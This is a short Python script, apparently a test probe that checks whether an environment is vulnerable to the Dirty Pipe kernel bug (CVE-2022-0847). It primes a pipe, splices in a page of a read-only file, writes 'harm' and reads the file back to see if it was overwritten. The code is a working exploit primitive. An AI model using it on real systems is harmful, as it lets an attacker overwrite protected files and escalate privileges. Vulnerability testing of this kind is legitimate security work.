"""Puts a page of a file into a pipe without copying it, and writes to the pipe in the hope that it writes to the file.

From: "Dirty Pipe", CVE-2022-0847.
"""

import fcntl
import os

from evidence import attempt, done, say

fd = os.open("/forge/inputs/data", os.O_RDONLY)
reading, writing = os.pipe()
size = fcntl.fcntl(writing, 1032)  # F_GETPIPE_SZ
for _ in range(size // 4096):
    os.write(writing, bytes(4096))
for _ in range(size // 4096):
    os.read(reading, 4096)  # every slot has now been one that may be added to
attempt("splice", os.splice, fd, writing, 1, offset_src=0)
attempt("write", os.write, writing, b"harm")
say(file=os.pread(fd, 4, 0).decode())
done()
